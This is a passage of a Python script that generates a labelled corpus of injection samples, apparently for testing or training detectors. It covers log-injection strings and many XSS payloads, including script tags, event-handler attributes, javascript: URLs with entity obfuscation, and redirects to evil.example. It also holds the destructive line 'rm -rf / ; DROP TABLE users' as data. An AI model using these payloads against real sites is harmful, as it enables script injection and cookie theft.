            ("a\x0bb", "control"),
            ("a\x0cb", "control"),
            ("a\x00b", "nul"),
            ("a\x7fb", "del"),
            ("a\u0085b", "nel"),
            ("a\u2028b", "line-separator"),
            ("a\u2029b", "paragraph-separator"),
            ("\u009b2J", "c1"),
            ("a\x07", "bell"),
            ("\x1bc", "ansi"),
            ("bob\u20282026-11-29T10:00:01Z INFO user login name=admin", "line-separator", "forged-line"),
            ("\x1b[8mhidden", "ansi"),
            ("x\x1a", "control"),
            ("\u009d0;title\u009c", "c1"),
            ("%0a" + "\n" + "x", "lf"),
            ("\x1b", "ansi"),
            ("a\u0080b", "c1"),
            ("a\u009fb", "c1"),
            ("bob\r", "cr"),
        ]
    )
    benign = (
        [
            ("bob",),
            ("O'Brien", "apostrophe"),
            ("Zoë Ødegård", "unicode"),
            ("李雷", "unicode"),
            ("bob\tadmin", "tab"),
            ("alice@example.com", "email"),
            ('"quoted"',),
            ("bob\\nadmin", "backslash-text"),
            ("%0d%0aINFO fake", "percent-text"),
            ('{"role":"admin"}',),
            ("ESC[31m", "ansi-text"),
            ("^[[2J", "ansi-text"),
            ("$19.99", "price"),
            ("a=b c=d",),
            ("2026-11-29",),
            ("🙂 smile", "unicode"),
            ("x < y & z",),
            ("admin INFO user login name=root", "same-line"),
            ("a\u00a0b", "unicode"),
            ("a\u200bb", "unicode"),
            ("\\u2028", "backslash-text"),
            ("col1\tcol2\tcol3", "tab"),
            ("Ünïcödé ñ", "unicode"),
            ("rm -rf / ; DROP TABLE users", "other-class"),
            ("👨\u200d👩\u200d👧", "unicode"),
            ("مرحبا", "unicode"),
            ("\ufeffbob", "unicode"),
            ("\u2424 and \u240d\u240a", "control-pictures"),
        ]
    )
    for template, placement in lines:
        c.place_all([template], attacks, True, placement)
        c.place_all([template], benign, False, placement)
    return c


# ----------------------------------------------------------------------- xss


def xss():
    c = Corpus("xss")
    text = ['<p>Hello, {}!</p>', '<div class="comment">{}</div>']
    c.place(
        text,
        [
            ("<script>alert(1)</script>", "tag"),
            ("<img src=x onerror=alert(1)>", "tag"),
            ("<svg onload=alert(1)>", "tag"),
            ("<ScRiPt>alert(1)</sCrIpT>", "tag"),
            ('<iframe src="javascript:alert(1)">', "tag"),
            ("</div><script>alert(1)</script>", "end-tag"),
            ("<!--", "comment"),
            ("<![CDATA[x]]>", "cdata"),
            ('<a href="//evil.example">win a prize</a>', "tag"),
            ("<details open ontoggle=alert(1)>", "tag"),
            ("<body onload=alert(1)>", "tag"),
            ("<math><mtext><script>alert(1)</script>", "tag"),
            ("<svg/onload=alert(1)>", "tag"),
            ("<style>@import'//evil.example/x.css';</style>", "tag"),
            ("x<img/src/onerror=alert(1)>", "tag"),
            ("<b>bold</b>", "tag"),
            ("<input autofocus onfocus=alert(1)>", "tag"),
            ("<a href=javascript:alert(1)>x</a>", "tag"),
            ("<img src=x onerror=alert(1)//", "tag", "unclosed"),
            ("<svg><animate onbegin=alert(1) attributeName=x>", "tag"),
            ("<script/x>alert(1)</script>", "tag"),
            ("if a<b then", "tag", "lt-letter"),
            ("<!-- hidden -->", "comment"),
        ],
        True,
        "text",
    )
    c.place(
        text,
        [
            ("a < b", "lt-prose"),
            ("if x <3 then", "lt-prose"),
            ("I <3 Rust", "lt-prose"),
            ("1 < 2 && 3 > 2", "lt-prose"),
            ("Tom & Jerry", "ampersand"),
            ("\"quoted\" and 'single'", "quotes"),
            ("O'Brien", "apostrophe"),
            ("a <= b", "lt-prose"),
            ("café ☕ 日本", "unicode"),
            ("javascript:alert(1)", "script-url-in-text"),
            ("5 > 3",),
            ("x << 2", "lt-prose"),
            ("&lt;script&gt;", "entity-text"),
            ("AT&amp;T", "entity-text"),
            ("$19.99", "price"),
            ("alice@example.com", "email"),
            ("＜script＞alert(1)＜/script＞", "fullwidth"),
            ("onerror=alert(1)", "handler-text"),
            ("a<1", "lt-prose"),
            ("<-- arrow", "lt-prose"),
            ("<3<3<3", "lt-prose"),
        ],
        False,
        "text",
    )
    dq = ['<input type="text" name="q" value="{}">']
    c.place(
        dq,
        [
            ('x" onmouseover="alert(1)', "quote-break"),
            ('"><script>alert(1)</script>', "quote-break"),
            ('" autofocus onfocus=alert(1) x="', "quote-break"),
            ('"><img src=x onerror=alert(1)>', "quote-break"),
            ('x"/onclick="alert(1)', "quote-break"),
        ],
        True,
        "attr-double",
    )
    c.place(
        dq,
        [
            ("O'Brien", "apostrophe"),
            ("shoes size 10",),
            ("a > b",),
            ("<3",),
            ("Tom & Jerry", "ampersand"),
            ("javascript:alert(1)", "script-url-not-url-attr"),
            ("x onmouseover=alert(1)", "handler-inside-quotes"),
            ("<script>alert(1)</script>", "tag-inside-quotes"),
            ("x&quot; onmouseover=&quot;alert(1)", "entity-text"),
        ],
        False,
        "attr-double",
    )
    sq = ["<img alt='{}' src=\"/img/a.png\">"]
    c.place(
        sq,
        [
            ("x' onerror='alert(1)", "quote-break"),
            ("'><svg onload=alert(1)>", "quote-break"),
            ("' onload=alert(1) x='", "quote-break"),
        ],
        True,
        "attr-single",
    )
    c.place(
        sq,
        [
            ('"The Best" deal', "quotes"),
            ('x" onerror="alert(1)', "other-quote"),
            ("O&#39;Brien", "entity-text"),
            ("sunset over the bay",),
        ],
        False,
        "attr-single",
    )
    uq = ["<input name=q value={}>"]
    c.place(
        uq,
        [
            ("x onmouseover=alert(1)", "space"),
            ("x><script>alert(1)</script>", "tag"),
            ("a autofocus onfocus=alert(1)", "space"),
            ("x\tonfocus=alert(1)", "space"),
            ("hello world", "space"),
        ],
        True,
        "attr-unquoted",
    )
    c.place(uq, one("shoes", "blue-widget", "42", "café", "size:10", "a&b"), False, "attr-unquoted")
    href = ['<a href="{}">profile</a>']
    c.place(
        href,
        [
            ("javascript:alert(document.cookie)", "javascript"),
            ("JaVaScRiPt:alert(1)", "javascript"),
            (" javascript:alert(1)", "javascript"),
            ("java\tscript:alert(1)", "javascript"),
            ("java\nscript:alert(1)", "javascript"),
            ("&#106;avascript:alert(1)", "javascript", "entity"),
            ("&#x6A;avascript:alert(1)", "javascript", "entity"),
            ("javascript&colon;alert(1)", "javascript", "entity"),
            ("vbscript:msgbox(1)", "vbscript"),
            ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data"),
            ('" onclick="alert(1)', "quote-break"),
            ('"><script>alert(1)</script>', "quote-break"),
            ("javascript://%0aalert(1)", "javascript"),
            ("java&Tab;script:alert(1)", "javascript", "entity"),
            ("&#0000106avascript:alert(1)", "javascript", "entity"),
            ("javascript&#58;alert(1)", "javascript", "entity"),
            ("jav&#x09;ascript:alert(1)", "javascript", "entity"),
            ("DATA:TEXT/HTML,<script>alert(1)</script>", "data"),
            ("\x01javascript:alert(1)", "javascript"),
        ],
        True,
        "href",
    )
    c.place(
        href,
        [
            ("https://example.com/users/alice",),
            ("/users/42",),
            ("mailto:alice@example.com", "email"),
            ("#comments",),
            ("https://example.com/search?q=javascript:alert(1)", "script-url-in-query"),
            ("https://example.com/?a=1&b=2", "ampersand"),
            ("tel:+15551234567",),
            ("profile.html",),
            ("https://javascript.info/", "javascript-host"),
            ("//cdn.example.com/x",),
            ("https://example.com/javascript:alert(1)", "script-url-in-path"),
            ("/javascript/intro",),
            ("javascript-tutorial.html",),
            ("data.html",),
            ("#javascript:void(0)", "fragment"),
        ],
        False,
        "href",
    )
    unquoted_url = ["<a href={}>profile</a>", "<form action={} method=post>"]
    c.place(
        unquoted_url,
        [
            ("javascript:alert(1)", "javascript"),
            ("x onmouseover=alert(1)", "space"),
            ("javascript:alert(1)//", "javascript"),
            ("vbscript:msgbox(1)", "vbscript"),
        ],
        True,
        "url-unquoted",
    )
    c.place(unquoted_url, one("/users/42", "/comments/new", "https://example.com/a?b=c"), False, "url-unquoted")
    src = ['<img src="{}" alt="avatar">']
    c.place(
        src,
        [
            ("javascript:alert(1)", "javascript"),
            ("data:text/html,<script>alert(1)</script>", "data"),
            ('x" onerror="alert(1)', "quote-break"),
        ],
        True,
        "src",
    )
    c.place(
        src,
        [
            ("/avatars/42.png",),
            ("https://cdn.example.com/a.png?w=64&h=64", "ampersand"),
            ("//cdn.example.com/avatars/42.png",),
            (
                "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
                "data-image",
            ),
        ],
        False,
        "src",
    )
    textarea = ['<textarea name="bio">{}</textarea>']
    c.place(
        textarea,
        [
            ("</textarea><script>alert(1)</script>", "end-tag"),
            ("</TEXTAREA><img src=x onerror=alert(1)>", "end-tag"),
            ("</textarea ><svg onload=alert(1)>", "end-tag"),
            ("</textarea/><script>alert(1)</script>", "end-tag"),
        ],
        True,
        "textarea",
    )
    # Text of <textarea> and <title> is RCDATA: only the element's own end
    # tag leaves it, a `<script>` there is shown as text.
    c.place(
        textarea,
        [
            ("<script>alert(1)</script>", "rcdata"),
            ("<b>hi</b>", "rcdata"),
            ("a < b", "lt-prose"),
            ("line1\nline2",),
        ],
        False,
        "textarea",
    )
    title = ["<title>{} - Shop</title>"]
    c.place(
        title,
        [
            ("</title><script>alert(1)</script>", "end-tag"),
            ('</TITLE><meta http-equiv="refresh" content="0;url=//evil.example">', "end-tag"),
        ],
        True,
        "title",
    )
    c.place(
        title,
        [
            ("<img src=x onerror=alert(1)>", "rcdata"),
            ("Tom & Jerry", "ampersand"),
            ("a < b", "lt-prose"),
            ("Café ☕", "unicode"),
            ("</titles><script>alert(1)</script>", "rcdata", "other-end-tag"),
        ],
        False,
        "title",
    )
    # HTML-escaped by the application in text and quoted attributes.
    for i, value in enumerate(
        [
            "<script>alert(1)</script>",
            'x" onmouseover="alert(1)',
            "<img src=x onerror=alert(1)>",
            "O'Brien & Sons",
            '"><svg onload=alert(1)>',
            "</textarea><script>alert(1)</script>",
        ]
    ):
        template = ['<p>Hello, {}!</p>', '<input type="text" name="q" value="{}">'][i % 2]
        c.add(template.replace("{}", html.escape(value, quote=True)), value, False, "html-escaped")
    return c


def main():
    for build in (shell, path, ssrf, redirect, header, log, xss):
        build().write()
    return 0


if __name__ == "__main__":
    sys.exit(main())
